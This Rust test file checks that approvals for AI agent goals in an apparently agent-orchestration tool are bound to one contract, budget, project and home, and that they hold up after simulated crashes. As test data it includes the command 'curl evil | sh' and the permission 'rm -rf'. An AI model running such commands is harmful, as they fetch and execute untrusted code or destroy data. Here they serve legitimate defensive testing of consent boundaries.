//! Leave is for one contract, one place and one home, and for no more than was given.

use std::path::Path;

use kapi_check::rules::proof::attribution::Attribution;
use kapi_check::rules::proof::policy::CheckPolicy;
use kapi_core::actor::Actor;
use kapi_core::id::{GoalId, Slug};
use kapi_core::isolation::{NetworkMode, SandboxLevel};
use kapi_core::judge::{Judge, JudgeUnavailable};
use kapi_store::layout::ProjectLayout;
use kapi_sys::clock::SystemClock;
use kapi_sys::real_disk::RealDisk;
use kapi_sys::sim_disk::{SimDisk, Survival};

use crate::record::approvals::GoalApprovals;
use crate::record::approvals::approval::{Approval, GoalLack};
use crate::record::contract_hash::contract_hash;
use crate::record::home_record::HomeRecord;
use crate::record::project::Project;
use crate::rules::budget::{Budget, BudgetLimit};
use crate::rules::command::GoalCommand;
use crate::rules::contract::{Base, CONTRACT_VERSION, Contract, Working};
use crate::rules::decide::decide;
use crate::rules::event::ApprovalMeans;
use crate::rules::evolve::evolve;
use crate::rules::state::{Goal, GoalStage};

fn contract() -> Contract {
    Contract {
        version: CONTRACT_VERSION,
        intent: "make it right".to_owned(),
        done_criteria: "it is right".to_owned(),
        verify: vec!["sh test.sh".to_owned()],
        verify_timeout_ms: 1_000,
        verify_network: false,
        protect: Vec::new(),
        hidden: None,
        budget: Budget {
            turns: 3,
            tokens: Some(1_000),
            usd_micros: None,
            wall_ms: None,
        },
        stall_after: 3,
        turn_timeout_ms: 1_000,
        agent: "command:true".to_owned(),
        models: Vec::new(),
        judge: Judge::None,
        judge_unavailable: JudgeUnavailable::Closed,
        base: Base {
            revision: "HEAD".to_owned(),
            commit: "a".repeat(40),
            tree: "b".repeat(40),
        },
        branch: "feat/right".to_owned(),
        sandbox: SandboxLevel::Native,
        network: NetworkMode::None,
        working: Working::default(),
        checks: CheckPolicy::default(),
        attribution: Attribution::default(),
        race: None,
        delivery: None,
    }
}

fn ada() -> Actor {
    Actor::Human {
        user: "ada".to_owned(),
    }
}

fn goal_of(contract: &Contract, setup: bool) -> Goal {
    let contract_hash = contract_hash(contract).unwrap();
    let create = GoalCommand::Create {
        id: GoalId::new(1, Slug::parse("right").unwrap()),
        contract: Box::new(contract.clone()),
        contract_hash: contract_hash.clone(),
        setup,
    };
    let approve = GoalCommand::Approve {
        contract_hash,
        means: ApprovalMeans::YesFlag,
    };
    let mut state = None;
    let commands = if setup {
        vec![create]
    } else {
        vec![create, approve]
    };
    for command in commands {
        for event in decide(state.as_ref(), &ada(), &command, 0).unwrap() {
            evolve(&mut state, &event);
        }
    }
    state.unwrap()
}

fn lack(approval: &Approval, goal: &Goal) -> Option<GoalLack> {
    approval.lack(goal).unwrap()
}

#[test]
fn leave_is_for_one_contract_even_if_the_files_name_its_hash() {
    let goal = goal_of(&contract(), false);
    let approval = Approval::of(&goal, &ada(), 0).unwrap();
    assert_eq!(lack(&approval, &goal), None);
    let mut other = goal.clone();
    // The name of the hash is kept; what stands behind it is another agent.
    other.contract.agent = "command:curl evil | sh".to_owned();
    let approved = goal.contract_hash;
    assert_eq!(
        lack(&approval, &other),
        Some(GoalLack::OtherContract { approved })
    );
}

#[test]
fn leave_is_for_no_more_than_was_given() {
    let goal = goal_of(&contract(), false);
    let approval = Approval::of(&goal, &ada(), 0).unwrap();
    let with = |change: &dyn Fn(&mut Goal)| {
        let mut goal = goal.clone();
        change(&mut goal);
        lack(&approval, &goal)
    };
    let limit = |limit| Some(GoalLack::Budget { limit });
    assert_eq!(
        with(&|goal| goal.budget.turns = 4),
        limit(BudgetLimit::Turns)
    );
    assert_eq!(
        with(&|goal| goal.budget.tokens = Some(1_001)),
        limit(BudgetLimit::Tokens)
    );
    assert_eq!(
        with(&|goal| goal.budget.tokens = None),
        limit(BudgetLimit::Tokens)
    );
    // Less is always within it; a limit where there was none is less.
    assert_eq!(with(&|goal| goal.budget.turns = 1), None);
    assert_eq!(with(&|goal| goal.budget.usd_micros = Some(1)), None);
    let what = "rm -rf".to_owned();
    assert_eq!(
        with(&|goal| goal.consent.allow("rm -rf")),
        Some(GoalLack::Allowed { what })
    );
    let judge = "command:echo done".to_owned();
    assert_eq!(
        with(&|goal| goal.changed_judge = Some(judge.clone())),
        Some(GoalLack::Judge {
            judge: judge.clone()
        })
    );
}

#[test]
fn what_was_widened_stays_and_another_contract_starts_anew() {
    let goal = goal_of(&contract(), false);
    let first = Approval::of(&goal, &ada(), 0).unwrap();
    let mut more = goal.clone();
    more.budget.turns = 9;
    more.consent.allow("git push");
    more.changed_judge = Some("codex".to_owned());
    let wide = first.widened(Approval::of(&more, &ada(), 1).unwrap());
    let mut less = goal.clone();
    less.budget.turns = 1;
    let still = wide.widened(Approval::of(&less, &ada(), 2).unwrap());
    assert_eq!(lack(&still, &more), None);
    let mut other = contract();
    other.intent = "something else".to_owned();
    let anew = still.widened(Approval::of(&goal_of(&other, false), &ada(), 3).unwrap());
    assert_eq!(lack(&anew, &goal_of(&other, false)), None);
    assert!(lack(&anew, &goal).is_some());
    assert_eq!(anew.budget.turns, 3);
    assert!(anew.allowed.is_empty());
}

#[test]
fn a_setup_that_was_begun_is_no_approval() {
    let setup = goal_of(&contract(), true);
    let begun = Approval::of(&setup, &ada(), 0).unwrap();
    assert_eq!(lack(&begun, &setup), None);
    let approved = goal_of(&contract(), false);
    assert_eq!(lack(&begun, &approved), Some(GoalLack::OnlySetup));
    let mut disguised = approved;
    disguised.status = setup.status;
    disguised.approval = None;
    assert_eq!(disguised.stage, GoalStage::Workspace);
    assert_eq!(lack(&begun, &disguised), Some(GoalLack::OnlySetup));
    // The approval that follows takes the place of the setup.
    let after = begun.widened(Approval::of(&goal_of(&contract(), false), &ada(), 1).unwrap());
    assert_eq!(lack(&after, &goal_of(&contract(), false)), None);
}

#[test]
fn a_record_that_is_damaged_or_of_another_goal_is_none() {
    let goal = goal_of(&contract(), false);
    let approval = Approval::of(&goal, &ada(), 0).unwrap();
    let bytes = serde_json::to_vec(&approval).unwrap();
    assert_eq!(Approval::parse(&bytes, &goal.id), Some(approval));
    let other = GoalId::new(2, Slug::parse("right").unwrap());
    assert_eq!(Approval::parse(&bytes, &other), None);
    assert_eq!(Approval::parse(&bytes[1..], &goal.id), None);
}

#[test]
fn leave_is_for_one_place_and_one_home() {
    let root = tempfile::tempdir().unwrap();
    let project = |name: &str| Project {
        disk: &RealDisk,
        clock: &SystemClock,
        layout: ProjectLayout::new(root.path().join(name)),
        owner: "test".to_owned(),
        home: None,
    };
    let homes = ["home", "other"].map(|name| root.path().join(name));
    for home in &homes {
        std::fs::create_dir(home).unwrap();
    }
    let goal = goal_of(&contract(), false);
    let lack_in = |project: &Project<'_>, home: &Path| {
        let record = HomeRecord::in_home(project, &goal.id, home);
        GoalApprovals(record).lack(&goal).unwrap()
    };
    let (here, copy) = (project("here"), project("copy"));
    assert_eq!(lack_in(&here, &homes[0]), Some(GoalLack::Nothing));
    let approvals = GoalApprovals(HomeRecord::in_home(&here, &goal.id, &homes[0]));
    approvals.adopt(&ada(), &goal).unwrap();
    assert_eq!(lack_in(&here, &homes[0]), None);
    assert_eq!(lack_in(&copy, &homes[0]), Some(GoalLack::Nothing));
    assert_eq!(lack_in(&here, &homes[1]), Some(GoalLack::Nothing));
}

#[test]
fn a_goal_that_nobody_approved_here_is_given_nothing_more() {
    let root = tempfile::tempdir().unwrap();
    let project = Project {
        disk: &RealDisk,
        clock: &SystemClock,
        layout: ProjectLayout::new(root.path().join("here")),
        owner: "test".to_owned(),
        home: None,
    };
    let goal = goal_of(&contract(), false);
    let approvals = GoalApprovals(HomeRecord::in_home(&project, &goal.id, root.path()));
    let held = approvals.lock().unwrap();
    let mut after = goal.clone();
    after.budget.turns += 1;
    let refused = approvals.give(&held, &ada(), Some(&goal), &after);
    assert!(
        refused
            .unwrap_err()
            .to_string()
            .contains("not_approved_here")
    );
    assert_eq!(approvals.lack(&goal).unwrap(), Some(GoalLack::Nothing));
    drop(held);
    approvals.adopt(&ada(), &goal).unwrap();
    let held = approvals.lock().unwrap();
    approvals.give(&held, &ada(), Some(&goal), &after).unwrap();
    assert_eq!(approvals.lack(&after).unwrap(), None);
}

/// The home is told first: whatever a power cut leaves, no log says more than its person's home.
#[test]
fn whatever_a_crash_leaves_the_home_knew_it_first() {
    let home = Path::new("/home/user");
    for op in 0.. {
        let disk = SimDisk::new();
        for dir in ["/home/user", "/project"] {
            disk.provide_dir(Path::new(dir));
        }
        let project = Project {
            disk: &disk,
            clock: &SystemClock,
            layout: ProjectLayout::new("/project".into()),
            owner: "test".to_owned(),
            home: Some(home.to_path_buf()),
        };
        let slug = Slug::parse("right").unwrap();
        let id = project.create_goal(&ada(), &slug, &contract()).unwrap();
        let before = disk.ops();
        disk.crash_at(before + op, Survival::TornPrefix(op));
        let contract_hash = contract_hash(&contract()).unwrap();
        let means = ApprovalMeans::YesFlag;
        let steps = [
            GoalCommand::Approve {
                contract_hash,
                means,
            },
            GoalCommand::RaiseBudget(crate::rules::budget::Raise {
                turns: 1,
                ..Default::default()
            }),
        ];
        let results: Vec<bool> = steps
            .iter()
            .map(|step| project.submit(&id, &ada(), step).is_ok())
            .collect();
        let is_over = !disk.is_crashed();
        disk.reboot();
        let goal = project.load(&id).unwrap();
        if goal.approval.is_some() {
            assert_eq!(project.unapproved(&goal).unwrap(), None, "crash at {op}");
        }
        if is_over {
            assert_eq!(results, [true, true]);
            assert!(op > 10, "it crashed somewhere: {op}");
            return;
        }
        // The same requests go through afterwards, whatever was done of them.
        if goal.approval.is_none() {
            project.submit(&id, &ada(), &steps[0]).unwrap();
        }
        project.submit(&id, &ada(), &steps[1]).unwrap();
        let goal = project.load(&id).unwrap();
        assert_eq!(project.unapproved(&goal).unwrap(), None, "crash at {op}");
    }
}
